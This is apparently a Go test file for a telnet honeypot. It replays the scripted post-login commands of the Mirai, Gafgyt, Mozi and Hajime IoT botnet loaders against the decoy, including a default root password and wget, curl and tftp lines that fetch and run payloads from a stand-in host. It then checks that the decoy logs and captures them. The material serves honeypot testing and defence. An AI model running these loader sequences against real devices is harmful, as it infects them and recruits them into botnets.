package telnet_test

import (
	"fmt"
	"testing"

	"github.com/decnet/decnet/decoys/decoytest"
	"github.com/decnet/decnet/decoys/telnet"
	"github.com/decnet/decnet/pkg/decnet"
)

// A step is what a loader sends, and what it waits for.
type step struct{ send, want string }

// loaders are those of bots, as they have been described: what they send once they are in, and what
// they wait for. The last step runs the payload.
var loaders = map[string][]step{
	"mirai": {
		{"enable\r\n", ""},
		{"system\r\n", ""},
		{"shell\r\n", ""},
		{"sh\r\n", ""},
		{"/bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
		{"/bin/busybox ps; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
		{"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
		{"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon\r\n", "kami/dev"},
		{"cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
		{"/bin/busybox cat /bin/echo | /bin/busybox head -c 4; /bin/busybox ECCHI\r\n", "ELFECCHI: applet not found"},
		{"/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
		{"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > dvrHelper; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
		{"/bin/busybox wc -c < dvrHelper\r\n", "5"},
		{"./dvrHelper telnet.echo; /bin/busybox IHCCE\r\n", "IHCCE: applet not found"},
	},
	"gafgyt": {
		{"sh\r\n", ""},
		{"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; curl -O http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp -g -r tftp1.sh 198.51.100.9; rm -rf bins.sh; echo gaf''gyt\r\n", "gafgyt"},
	},
	"mozi": {
		{"system\r\n", ""},
		{"shell\r\n", ""},
		{"linuxshell\r\n", ""},
		{"/bin/busybox MOZI\r\n", "MOZI: applet not found"},
		{"for i in /proc/*/exe; do ls -l $i >/dev/null 2>&1; done; echo MO''ZI\r\n", "MOZI"},
		{"uname -m; echo ma''chine\r\n", "machine"},
		{"cd /tmp; wget http://198.51.100.9:41000/Mozi.m; chmod 777 Mozi.m; ./Mozi.m; /bin/busybox MOZI\r\n", "MOZI: applet not found"},
	},
	"hajime": {
		{"enable\r\n", ""},
		{"system\r\n", ""},
		{"shell\r\n", ""},
		{"sh\r\n", ""},
		{"cat /proc/mounts; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
		{"cd /dev; cat .s || cp /bin/echo .s; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
		{"nc; wget; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
		{"(dd bs=52 count=1 if=.s || cat .s); /bin/busybox QWXYZ\r\n", "\x7fELF"},
		{"\r\n", ""},
		{">.s; cp .s .i; /bin/busybox echo -ne \"\\x7f\\x45\\x4c\\x46\\x01\\x02\" >.s; wc -c <.s; /bin/busybox QWXYZ\r\n", "6\r\nQWXYZ: applet not found"},
		{"./.s>.i; chmod +x .i; ./.i; rm .s; /bin/busybox QWXYZ\r\n", "QWXYZ: applet not found"},
	},
}

func TestLoadersOfBotsRunToTheirPayload(t *testing.T) {
	for _, os := range []string{"debian", "alpine", "openwrt"} {
		for name, steps := range loaders {
			t.Run(fmt.Sprintf("%s on %s", name, os), func(t *testing.T) {
				d := decoytest.Start(t, telnet.Service(), decoytest.Options{OS: os, Settings: fast(map[string]string{"login": "any"})})
				c := call(t, d, true)
				c.until("login: ")
				c.send("root\r\n")
				c.until("Password: ")
				c.send("xc3511\r\n")
				c.until("# ")
				for _, s := range steps {
					c.send(s.send)
					if s.want != "" {
						c.until(s.want)
					}
				}
				lines := 0
				for _, s := range steps {
					if s.send != "\r\n" {
						lines++
					}
				}
				d.WaitFor(decnet.KindCommand, lines)
				switch name {
				case "gafgyt":
					if e := d.WaitFor("download", 2)[0].Fields; e["url"] != "http://198.51.100.9/bins.sh" {
						t.Errorf("have %v", e)
					}
				case "mozi":
					d.WaitFor("download", 1)
				case "mirai", "hajime":
					d.WaitFor(decnet.KindCaptured, 1)
				}
			})
		}
	}
}

func TestOpenWrtIsARouter(t *testing.T) {
	d := decoytest.Start(t, telnet.Service(), decoytest.Options{OS: "openwrt", Settings: fast(map[string]string{"login": "any"})})
	c := call(t, d, true)
	c.until(d.Persona.Hostname + " login: ")
	c.send("root\r\n")
	c.until("Password: ")
	c.send("admin\r\n")
	prompt := "root@" + d.Persona.Hostname + ":~# "
	c.until("W I R E L E S S   F R E E D O M")
	c.until(prompt)
	for _, s := range []step{
		{"cat /etc/openwrt_release", "DISTRIB_TARGET='ath79/generic'\r\n"},
		{"uname -a", "Linux " + d.Persona.Hostname + " 5.10.176 #0 Thu Apr 27 20:28:15 2023 mips GNU/Linux\r\n"},
		{"grep -c '^system type' /proc/cpuinfo", "1\r\n"},
		{"uci get network.lan.ipaddr", "192.0.2.10\r\n"},
		{"uci show system.ntp.enabled", "system.ntp.enabled='1'\r\n"},
		{"opkg list-installed | grep busybox", "busybox - 1.35.0-5\r\n"},
		{"head -c 6 /bin/busybox | hexdump -C", "7f 45 4c 46 01 02"},
		{"df | grep overlay | wc -l", "2\r\n"},
		{"ls /etc/config", "network"},
		{"ps | grep -c procd", ""},
		{"ubus call system board", "\"model\": \"TP-Link"},
		{"logread | head -1", "Linux version 5.10.176"},
		{"apt; bash", "-ash: apt: not found"},
	} {
		c.send(s.send + "\r\n")
		c.until(s.send)
		c.until(s.want)
		c.until(prompt)
	}
}
